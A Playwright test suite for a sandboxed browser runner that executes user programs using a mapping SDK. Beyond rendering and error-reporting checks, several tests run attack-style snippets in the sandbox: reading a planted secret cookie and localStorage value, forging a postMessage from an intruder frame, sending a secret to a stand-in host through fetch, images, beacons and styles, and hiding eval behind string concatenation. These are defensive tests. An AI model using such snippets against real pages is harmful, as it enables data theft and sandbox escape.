import {expect, test} from '@playwright/test';
import {SITE_ORIGIN} from '../support/origins';
import {storeFrameworkCookie} from '../support/framework';
import {distinctColours, mountRunnerFrame, runInFrame, runnerMessages, waitForRunnerMessage} from '../support/runner';

test.use({viewport: {width: 800, height: 600}});

const DRAW = `import { MapWeave, NetworkLayer } from 'mapweave';
const map = new MapWeave({
  container: 'map',
  view: { longitude: 0, latitude: 0, zoom: 1 },
  layers: [new NetworkLayer({ id: 'n', data: { a: { type: 'node', latitude: 0, longitude: 0, size: 30, color: '#d00' } } })],
});
`;

test.beforeEach(async ({page, context}) => {
  await storeFrameworkCookie(context, SITE_ORIGIN, 'javascript');
  await context.addCookies([{name: 'site_secret', value: 'do-not-leak', url: `${SITE_ORIGIN}/`}]);
  await page.goto('/examples/');
  await page.evaluate(() => localStorage.setItem('site_secret', 'do-not-leak'));
  await mountRunnerFrame(page);
});

test('a program draws a map in the sandboxed frame and reports its first frame', async ({page}) => {
  await runInFrame(page, DRAW);
  const firstFrame = await waitForRunnerMessage(page, 'first-frame');
  expect(firstFrame.ms).toBeGreaterThan(0);
  expect(await distinctColours(page, '#harness-runner')).toBeGreaterThan(8);
  expect((await runnerMessages(page)).filter((message) => message.type === 'error')).toEqual([]);
});

test('the program cannot reach the site: no cookie, no storage, no parent document, no top navigation', async ({
  page,
}) => {
  await runInFrame(
    page,
    `const attempt = (name: string, action: () => unknown) => {
  try { console.log(name + ': ' + String(action())); } catch (error) { console.log(name + ': blocked (' + (error as Error).name + ')'); }
};
attempt('cookie', () => document.cookie);
attempt('localStorage', () => localStorage.getItem('site_secret'));
attempt('parent', () => window.parent.document.title);
attempt('top', () => { window.top!.location.href = 'https://example.com/'; return 'navigated'; });
attempt('origin', () => window.origin);
`,
  );
  await waitForRunnerMessage(page, 'done');
  const lines = (await runnerMessages(page))
    .filter((message) => message.type === 'console')
    .map((message) => message.text);
  expect(lines).toContain('origin: null');
  expect(lines.join('\n')).not.toContain('do-not-leak');
  expect(lines).toContain('cookie: blocked (SecurityError)');
  expect(lines).toContain('localStorage: blocked (SecurityError)');
  expect(lines).toContain('parent: blocked (SecurityError)');
  expect(lines).toContain('top: blocked (SecurityError)');
  expect(page.url()).toBe(`${SITE_ORIGIN}/examples/`);
});

test('the frame ignores a run message from any window but its parent', async ({page}) => {
  await page.evaluate(() => {
    const intruder = document.createElement('iframe');
    intruder.setAttribute('sandbox', 'allow-scripts');
    intruder.srcdoc = `<script>
      parent.frames[parent.frames.length - 2].postMessage({type: 'run', framework: 'javascript', colorMode: 'light', source: 'console.log("forged")'}, '*');
    </script>`;
    document.body.append(intruder);
  });
  // The intruder posts before the real run; the frame must still be waiting for its parent.
  await page.waitForFunction(() => document.querySelectorAll('iframe').length === 2);
  await runInFrame(page, 'console.log("from the parent");');
  await waitForRunnerMessage(page, 'done');
  const lines = (await runnerMessages(page))
    .filter((message) => message.type === 'console')
    .map((message) => message.text);
  expect(lines).toEqual(['from the parent']);
});

test('a compile error names the user’s line and column', async ({page}) => {
  await runInFrame(page, 'const a = 1;\nconst b: number = ;\n');
  const error = await waitForRunnerMessage(page, 'error');
  expect(error).toMatchObject({phase: 'compile', line: 2});
  expect(error.column).toBeGreaterThan(0);
});

test('an import the runner does not provide is a compile error naming it', async ({page}) => {
  await runInFrame(page, "import { chunk } from 'lodash';\nchunk([1], 1);\n");
  const error = await waitForRunnerMessage(page, 'error');
  expect(error).toMatchObject({phase: 'compile', line: 1});
  expect(error.message).toContain('Cannot import "lodash"');
});

test('a runtime error, now or later, names the user’s line', async ({page}) => {
  await runInFrame(
    page,
    "const items: string[] = [];\n\nsetTimeout(() => {\n  items.push((undefined as unknown as string).trim());\n}, 10);\nconsole.log('scheduled');\n",
  );
  const error = await waitForRunnerMessage(page, 'error');
  expect(error).toMatchObject({phase: 'runtime', line: 4});
  expect(error.message).toMatch(/TypeError/);
});

test('a MapWeaveError keeps its code in the message', async ({page}) => {
  await runInFrame(
    page,
    "import { NetworkLayer } from 'mapweave';\nnew NetworkLayer({ id: 'n', data: { l: { type: 'link', id1: 'a', id2: 'b' } } });\n",
  );
  const error = await waitForRunnerMessage(page, 'error');
  expect(error).toMatchObject({phase: 'runtime', line: 2});
  expect(error.message).toMatch(/^MapWeaveError \[[A-Z_]+\]/);
});

// An await inside a loop runs its iterations as microtasks of one task: the page draws
// nothing until they stop. A loop after an await throws from a promise nobody handles.
for (const [kind, source, line] of [
  ['an endless loop', 'let spins = 0;\nwhile (true) {\n  spins++;\n}\n', 2],
  ['a loop that awaits inside', 'async function spin() {\n  for (;;) {\n    await null;\n  }\n}\nspin();\n', 2],
  ['an endless loop after an await', 'async function main() {\n  await null;\n  while (true) {}\n}\nmain();\n', 3],
] as const) {
  test(`${kind} is stopped with its line and the page stays responsive`, async ({page}) => {
    await runInFrame(page, source);
    const error = await waitForRunnerMessage(page, 'error');
    expect(error).toMatchObject({phase: 'runtime', line});
    expect(error.message).toContain('endless loop');
    expect(await page.evaluate(() => 6 * 7)).toBe(42);
  });
}

test('an error thrown by the SDK later (timer, animation frame, async function, event listener) or a promise it rejects keeps its message and the user’s line', async ({
  page,
}) => {
  await runInFrame(
    page,
    `import { NetworkLayer, analyzeInWorker } from 'mapweave';
const broken = { l: { type: 'link' as const, id1: 'a', id2: 'b' } };
setTimeout(() => new NetworkLayer({ id: 'timer', data: broken }), 10);
requestAnimationFrame(() => new NetworkLayer({ id: 'frame', data: broken }));
(async () => { await null; new NetworkLayer({ id: 'async', data: broken }); })();
document.body.addEventListener('click', () => new NetworkLayer({ id: 'click', data: broken }));
setTimeout(() => document.body.click(), 20);
analyzeInWorker({}, 'no-such-algorithm' as never);
`,
  );
  await expect
    .poll(async () => (await runnerMessages(page)).filter((message) => message.type === 'error').length)
    .toBe(5);
  const errors = (await runnerMessages(page)).filter((message) => message.type === 'error');
  expect(errors.map((error) => error.line).sort()).toEqual([3, 4, 5, 6, 8]);
  for (const error of errors) expect(error.message).toMatch(/^MapWeaveError \[[A-Z_]+\]: /);
});

test('on a host without the CORS header the runner still runs, and a hidden SDK error says why it is hidden', async ({
  page,
}) => {
  // Playwright's fulfil adds the header a CORS request asks for unless given one: give one that does not match.
  await page.route(/\/(sdk|runner)\/[^/]+\.js$/, async (route) => {
    const response = await route.fetch();
    await route.fulfill({
      response,
      headers: {...response.headers(), 'access-control-allow-origin': 'http://elsewhere.invalid'},
    });
  });
  await mountRunnerFrame(page);
  await runInFrame(page, `${DRAW}setTimeout(() => map.setViewState(null as never), 10);\n`);
  await waitForRunnerMessage(page, 'first-frame');
  const error = await waitForRunnerMessage(page, 'error');
  expect(error.message).toMatch(/^Script error\. The browser hides its message and line: it was thrown inside the SDK/);
});

test('an error in a worker the program starts reaches the console with its message', async ({page}) => {
  await runInFrame(
    page,
    "const code = 'throw new RangeError(\"inside the worker\");';\nnew Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));\n",
  );
  const error = await waitForRunnerMessage(page, 'error');
  expect(error).toMatchObject({phase: 'runtime'});
  expect(error.message).toContain('RangeError: inside the worker');
});

test('the program cannot send anything out: fetch, images, beacons and styles are blocked and named in the console', async ({
  page,
}) => {
  const sent: string[] = [];
  await page.route('http://beacon.test/**', (route) => {
    sent.push(route.request().url());
    return route.fulfill({status: 204, headers: {'Access-Control-Allow-Origin': '*'}});
  });
  await runInFrame(
    page,
    `fetch('http://beacon.test/fetch?secret=1').then(() => console.log('fetch sent'), () => console.log('fetch refused'));
new Image().src = 'http://beacon.test/image?secret=1';
navigator.sendBeacon('http://beacon.test/beacon', 'secret=1');
document.body.style.backgroundImage = 'url(http://beacon.test/style?secret=1)';
`,
  );
  await waitForRunnerMessage(page, 'console', (message) => message.text === 'fetch refused');
  await expect
    .poll(
      async () =>
        (await runnerMessages(page)).filter(
          (message) =>
            message.type === 'console' && String(message.text).startsWith('The runner blocked http://beacon.test/'),
        ).length,
    )
    .toBeGreaterThanOrEqual(3);
  expect(sent).toEqual([]);
});

test('code given as a string does not run, and the console says why', async ({page}) => {
  await runInFrame(
    page,
    `const run = globalThis['ev' + 'al'] as (code: string) => unknown;
const later = globalThis['set' + 'Timeout'] as (code: string, ms: number) => number;
later("console.log('string timer ran')", 0);
try {
  run("console.log('eval ran')");
} catch (error) {
  console.log('refused: ' + (error as Error).name);
}
setTimeout(() => console.log('finished'), 50);
`,
  );
  await waitForRunnerMessage(page, 'console', (message) => message.text === 'finished');
  const lines = (await runnerMessages(page))
    .filter((message) => message.type === 'console')
    .map((message) => String(message.text));
  expect(lines).toContain('refused: EvalError');
  expect(lines).not.toContain('string timer ran');
  expect(lines).not.toContain('eval ran');
  expect(lines.filter((line) => line.startsWith('The runner does not run code given as a string'))).toHaveLength(2);
});

test('eval written in the program is a compile error naming its line', async ({page}) => {
  await runInFrame(page, "const a = 1;\nconsole.log(eval('a + 1'));\n");
  const error = await waitForRunnerMessage(page, 'error');
  expect(error).toMatchObject({phase: 'compile', line: 2});
  expect(error.message).toContain('eval() runs code given as a string');
});
